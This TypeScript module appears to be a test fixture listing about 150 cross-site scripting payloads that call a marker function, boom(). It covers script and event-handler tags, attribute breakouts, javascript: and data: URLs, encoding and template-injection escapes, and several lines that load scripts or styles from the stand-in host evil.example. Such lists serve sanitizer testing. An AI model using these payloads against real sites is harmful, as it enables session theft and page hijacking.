/** What somebody who wants a script to run in another's page would put into a text: 150 and more, each with the call `boom()`. */
export const payloads: readonly string[] = [...asTags(), ...asAttributes(), ...asAddresses(), ...asEscapes()]

function asTags(): string[] {
  const events = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onbegin",
  ]
  const elements = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "iframe src=x",
    "object data=x",
  ]
  return [
    "<script>boom()</script>",
    "<SCRIPT>boom()</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "</script><script>boom()</script>",
    "</title><script>boom()</script>",
    "</textarea><script>boom()</script>",
    "</style><script>boom()</script>",
    "--><script>boom()</script>",
    "]]><script>boom()</script>",
    "<![CDATA[<script>boom()</script>]]>",
    "<svg><script>boom()</script></svg>",
    "<math><mtext><script>boom()</script></mtext></math>",
    "<template><script>boom()</script></template>",
    "<noscript><p title='</noscript><script>boom()</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=javascript:boom()><button>x</button></form>",
    "<embed src=javascript:boom()>",
    "<marquee onstart=boom()>",
    "<isindex action=javascript:boom() type=submit>",
    "<table background=javascript:boom()>",
    ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=boom()>`)),
  ]
}

function asAttributes(): string[] {
  const closings = ['"', "'", "`", '">', "'>", "` ", '" ', "' ", "/>", "\n"]
  const attributes = [
    "onmouseover=boom()",
    "autofocus onfocus=boom()",
    "style=animation:x onanimationstart=boom()",
  ]
  return closings.flatMap((closing) => attributes.map((attribute) => `${closing}${attribute} x=${closing}`))
}

function asAddresses(): string[] {
  return [
    "javascript:boom()",
    "JaVaScRiPt:boom()",
    "java\tscript:boom()",
    "java\nscript:boom()",
    " javascript:boom()",
    "\u0001javascript:boom()",
    "javascript&colon;boom()",
    "&#106;avascript:boom()",
    "data:text/html,<script>boom()</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
    "vbscript:boom()",
    "//evil.example/%0d%0aset-cookie:x=boom()",
    'https://evil.example/"onclick=boom()//',
    "feed:javascript:boom()",
    "view-source:javascript:boom()",
  ]
}

function asEscapes(): string[] {
  return [
    "{{constructor.constructor('boom()')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what templates of other systems would fill in
    "${boom()}",
    "#{boom()}",
    "<%= boom() %>",
    "&lt;script&gt;boom()&lt;/script&gt;",
    "\\u003cscript\\u003eboom()\\u003c/script\\u003e",
    "\\x3cscript\\x3eboom()\\x3c/script\\x3e",
    "+ADw-script+AD4-boom()+ADw-/script+AD4-",
    "%3Cscript%3Eboom()%3C/script%3E",
    "%253Cscript%253Eboom()%253C/script%253E",
    "＜script＞boom()＜/script＞",
    "<\u200cscript>boom()</\u200cscript>",
    "<img\u00a0src=x\u00a0onerror=boom()>",
    "<img/src=x/onerror=boom()>",
    "<a href='javascript:boom()'>خبر</a>",
    "<b onclick='boom()'>وزیر</b>",
    "\u202e<script>boom()</script>",
    "\u2066<img src=x onerror=boom()>\u2069",
    "');boom();//",
    '");boom();//',
    "\\');boom();//",
    "\u2028boom()//",
    "\u2029boom()//",
    "<!--<img src='--><img src=x onerror=boom()>'>",
    "<a id=x tabindex=1 onfocus=boom()></a>",
    "<x contenteditable onblur=boom()>x</x>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:boom()><text>x</text></a>",
    "<math href=javascript:boom()>x</math>",
    "<iframe srcdoc='<script>boom()</script>'>",
    "<object data='data:text/html,<script>boom()</script>'>",
  ]
}
